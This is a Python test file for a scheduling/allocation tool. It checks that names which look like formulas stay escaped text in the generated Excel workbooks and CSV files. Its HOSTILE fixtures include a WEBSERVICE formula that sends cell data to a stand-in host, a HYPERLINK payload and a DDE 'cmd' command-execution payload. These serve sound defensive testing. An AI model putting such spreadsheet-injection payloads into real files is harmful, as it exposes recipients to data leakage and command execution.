"""No text from the input becomes a live formula in a workbook or a spreadsheet csv."""

from __future__ import annotations

import zipfile
from pathlib import Path

import pandas as pd
import yaml
from click.testing import CliRunner
from openpyxl import load_workbook

from allocator.cli.main import main
from allocator.report.cell_safety import csv_for_spreadsheets
from allocator.report.problem_out import write_problem
from allocator.scenarios.outputs import write_results
from allocator.synth import generate_group

HOSTILE = {
    "person": '=WEBSERVICE("http://x.example/?"&B2)',
    "school": "=HYPERLINK(\"http://x.example\",\"klik\")",
    "task": "@SUM(1+1)*cmd|' /C calc'!A0",
    "variant": "=1+1",
}


def _formulas(path: Path) -> list[str]:
    """Every formula element in every sheet of the workbook's XML."""
    with zipfile.ZipFile(path) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        return [name for name in sheets
                if b"<f>" in archive.read(name) or b"<f " in archive.read(name)]


def _cells_with(path: Path, text: str):
    book = load_workbook(path)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
            if isinstance(cell.value, str) and text in cell.value]


def _hostile_group(path: Path) -> None:
    problem = generate_group(3, seed=1)
    people = [problem.people[0].model_copy(update={"name": HOSTILE["person"]}),
              *problem.people[1:]]
    schools = [problem.schools[0].model_copy(update={"name": HOSTILE["school"]}),
               *problem.schools[1:]]
    tasks = [task.model_copy(update={"name_nl": HOSTILE["task"], "name_en": HOSTILE["task"]})
             for task in problem.tasks]
    write_problem(problem.model_copy(update={"people": people, "schools": schools,
                                             "tasks": tasks}), path)


def test_names_that_look_like_formulas_stay_text_in_the_plan_workbook(tmp_path):
    source = tmp_path / "groep.yaml"
    _hostile_group(source)
    plan = tmp_path / "plan.xlsx"
    result = CliRunner().invoke(main, ["solve", str(source), "-o", str(plan),
                                       "--time-limit", "10", "--workers", "1"])
    assert result.exit_code == 0, result.output
    assert _formulas(plan) == []
    for text in (HOSTILE["person"], HOSTILE["task"]):
        cells = _cells_with(plan, text)
        assert cells, text
        assert all(cell.data_type == "s" for cell in cells)
        assert all(cell.quotePrefix for cell in cells if cell.value.startswith(text))


def test_input_workbooks_written_by_generate_keep_names_as_text_and_read_back(tmp_path):
    from allocator.read import read_problem

    source = tmp_path / "groep.yaml"
    _hostile_group(source)
    problem = read_problem(source).problem
    out = tmp_path / "groep.xlsx"
    write_problem(problem, out)
    assert _formulas(out) == []
    again = read_problem(out).problem
    assert again.people[0].name == HOSTILE["person"]


def test_the_comparison_workbook_and_csv_escape_formula_like_text(tmp_path):
    table = pd.DataFrame({"name": [HOSTILE["variant"], "-2 uur", "gewoon"],
                          "repetition": [0, 0, 0], "status": ["error"] * 3,
                          "core_value": [-1.0, 2.0, 3.0]})
    table["variant"] = table["name"]
    write_results(tmp_path, "comparison", table, pd.DataFrame(), ["variant"],
                  {"variant": "gewoon"}, {"allocator": "test"}, plots=False)
    assert _formulas(tmp_path / "comparison.xlsx") == []
    assert {c.data_type for c in _cells_with(tmp_path / "comparison.xlsx", "=1+1")} == {"s"}
    csv = [line for line in (tmp_path / "comparison.csv").read_text(
        encoding="utf-8").splitlines() if not line.startswith("#")]  # provenance header
    assert csv[1].startswith("'=1+1,") and csv[2].startswith("'-2 uur,")
    assert csv[3].startswith("gewoon,") and csv[1].endswith(",-1.0")  # numbers stay numbers
    assert pd.read_parquet(tmp_path / "comparison.parquet")["name"][0] == "=1+1"  # data as is


def test_csv_escaping_leaves_the_original_frame_and_plain_text_alone():
    frame = pd.DataFrame({"name": ["@x", "x@", "+3"], "n": [-1, 2, 3]})
    safe = csv_for_spreadsheets(frame)
    assert list(safe["name"]) == ["'@x", "x@", "'+3"] and list(safe["n"]) == [-1, 2, 3]
    assert list(frame["name"]) == ["@x", "x@", "+3"]


def test_data_files_keep_the_value_as_it_is(tmp_path):
    source = tmp_path / "groep.yaml"
    _hostile_group(source)
    data = yaml.safe_load(source.read_text(encoding="utf-8"))
    assert data["Personen"][0]["naam"] == HOSTILE["person"]
